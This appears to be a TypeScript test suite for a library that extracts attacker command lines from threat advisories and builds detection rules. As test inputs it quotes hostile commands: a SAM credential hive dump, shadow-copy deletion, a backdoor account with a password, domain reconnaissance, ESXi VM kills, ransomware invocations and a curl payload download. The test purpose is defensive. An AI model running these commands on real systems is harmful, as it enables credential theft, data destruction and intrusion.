import { findBehaviours, generate } from '@tripline/advisory';
import fc from 'fast-check';
import { markdownAdvisory, textAdvisory } from './support/documents.js';

async function commandsIn(text: string): Promise<readonly string[]> {
  const doc = await textAdvisory(text);
  return findBehaviours(doc)
    .filter(({ kind }) => kind === 'command')
    .map(({ value }) => value);
}

describe('prepositions before a path', () => {
  it.each([
    'The handler is served at /replicate/all on a Linux server.',
    'It was reached at `/fen/api` of the Linux host.',
  ])('start no program: %s', async (text) => {
    expect(await commandsIn(text)).toEqual([]);
  });
});

describe('command lines in running text', () => {
  it('have programs whose ending somebody made harmless', async () => {
    const text =
      'Commands for Windows: Fenlocker[.]exe –pass <16-byte pass> -dir <\\\\target> -wait -q\n\nCommands for Linux: chmod +x ./fenlocker[.]elf && ./fenlocker[.]elf –dir -q -wait';
    const rules = generate(await textAdvisory(`The ransomware encrypts Windows and Linux hosts.\n\n${text}`)).rules;
    const yaml = rules.map((rule) => rule.yaml).join('\n');
    expect(yaml).toContain("Image|endswith: '\\fenlocker.exe'");
    expect(yaml).toContain("a0|endswith: 'fenlocker.elf'");
  });

  it.each([
    [
      'The actor used the following command: reg.exe save HKLM\\SAM C:\\Temp\\s.hiv /y and left.',
      'reg.exe save HKLM\\SAM C:\\Temp\\s.hiv /y',
    ],
    [
      'They executed schtasks /create /tn "Night Job" /tr "C:\\ProgramData\\n.exe" /sc daily. The task then ran.',
      'schtasks /create /tn "Night Job" /tr "C:\\ProgramData\\n.exe" /sc daily',
    ],
    ['It then calls “vssadmin delete shadows /all /quiet” to hinder recovery.', 'vssadmin delete shadows /all /quiet'],
    [
      'The loader starts cmd.exe /c copy *.js C:\\Users\\Public\\a.js. The path is fixed.',
      'cmd.exe /c copy *.js C:\\Users\\Public\\a.js',
    ],
    ['On the hosts they ran esxcli vm process kill --type=force and left.', 'esxcli vm process kill --type=force'],
    ['The loader ran rundll32.exe heron.dll,DllRegisterServer to start.', 'rundll32.exe heron.dll,DllRegisterServer'],
    ['The account was made by net user heron qc69t4B#Z0k /add there.', 'net user heron qc69t4B#Z0k /add'],
    ['Later, nltest /domain_trusts was seen on two hosts.', 'nltest /domain_trusts'],
    ['A row of the table read ipconfig.exe ipconfig /all nltest.exe nltest /dclist: and no more.', 'ipconfig /all'],
    [
      'It sent the files with svchost.exe --config heron.conf --progress copy later on.',
      'svchost.exe --config heron.conf --progress copy',
    ],
    [
      'They listed net group "Domain Admins" /domain A number of queries came next.',
      'net group "Domain Admins" /domain',
    ],
    ['They ran "curl -o /tmp/x http://192.0.2.4/x" on the gateway.', 'curl -o /tmp/x http://192.0.2.4/x'],
  ])('ends a command where the sentence goes on: %s', async (text, command) => {
    expect(await commandsIn(text)).toContain(command);
  });

  it('does not take ordinary English for commands', async () => {
    const prose =
      'The net effect was small. Users type a password at the start of a session and find the service in a list. ' +
      'PowerShell is popular with many groups, and the Python developers copy code from each other. Go to the next page.';
    expect(await commandsIn(prose)).toEqual([]);
  });

  it('does not take a list of services to stop for commands', async () => {
    const list = 'Services to stop: HeronBackup.Agent.exe "Heron Web Control" HeronSync.exe "heron_agent" sql.';
    expect(await commandsIn(list)).toEqual([]);
  });

  it('is not the name of a file with a blank, though it begins like a program', async () => {
    expect(await commandsIn('It is started by the shortcut "Java Update.lnk" in the Startup folder.')).toEqual([]);
  });

  it('reads whole commands out of a hunting query’s escaped values', async () => {
    const query =
      'Type: ("Process Creation") AND Target.Process.CommandLine: ("\\/C \\"chcp 1252 \\> NUL & nltest \\/dclist\\:\\"" OR "whoami" OR "other words")';
    expect(await commandsIn(query)).toContain('chcp 1252 > NUL & nltest /dclist:');
  });

  it('does not take hunting queries and source code for commands', async () => {
    const doc = await markdownAdvisory(
      '# Hunting\n\n```\nDeviceProcessEvents | where ProcessCommandLine has_any ("net user /domain", "whoami /all")\n```\n\n```\nint main() { system("x"); }\n```\n',
    );
    expect(findBehaviours(doc).filter(({ kind }) => kind === 'command')).toEqual([]);
  });

  it('takes the whole line of a code block without its prompt', async () => {
    const doc = await markdownAdvisory(
      '# Case\n\nSeen:\n\n```\nC:\\Users\\x> wmic shadowcopy delete\n$ crontab -l\n```\n',
    );
    const values = findBehaviours(doc)
      .filter(({ kind }) => kind === 'command')
      .map(({ value }) => value);
    expect(values).toEqual(['wmic shadowcopy delete', 'crontab -l']);
  });

  it('tells Windows from Linux by the command itself', async () => {
    const doc = await markdownAdvisory(
      '# Case\n\n```\ncurl -o C:\\Temp\\a.dll http://192.0.2.1/a\ncurl -o /tmp/a http://192.0.2.1/a\n```\n',
    );
    const systems = findBehaviours(doc)
      .filter((each) => each.kind === 'command')
      .map(({ system }) => system);
    expect(systems).toEqual(['windows', 'linux']);
  });

  it('trusts what is advised or denied less than what is told', async () => {
    const told = findBehaviours(await textAdvisory('The actor ran vssadmin delete shadows /all on every host.'));
    const denied = findBehaviours(
      await textAdvisory('The actor did not run vssadmin delete shadows /all on any host.'),
    );
    const advised = findBehaviours(
      await textAdvisory('Administrators should run vssadmin list shadows /for=C: to check.'),
    );
    expect(told[0]?.confidence).toBeGreaterThan(0.7);
    expect(denied[0]?.confidence).toBeLessThan(0.3);
    expect(advised).toEqual([]);
  });
});

describe('whatever the text', () => {
  it('every finding stands in the text at its span, in order', async () => {
    const piece = fc.constantFrom(
      'cmd.exe /c "',
      'powershell -enc ',
      '"',
      "'",
      '\\',
      '/',
      ' ',
      '\n',
      'net user /add',
      'HKLM\\Software\\',
      '.exe',
      'AWS CreateUser ',
      '`',
      'kubectl exec ',
      '| ',
      '&& ',
      '\\\\.\\pipe\\',
      'http://',
      '%APPDATA%\\',
      '-',
      '“',
      '”',
      'é',
      '\u{1F4A5}',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 60 }), async (pieces) => {
        const doc = await textAdvisory(`x ${pieces.join('')}`);
        let before = 0;
        for (const { start, end } of findBehaviours(doc)) {
          expect(start).toBeGreaterThanOrEqual(before);
          expect(end).toBeGreaterThan(start);
          expect(end).toBeLessThanOrEqual(doc.text.length);
          before = start;
        }
      }),
      { numRuns: 60 },
    );
  });
});
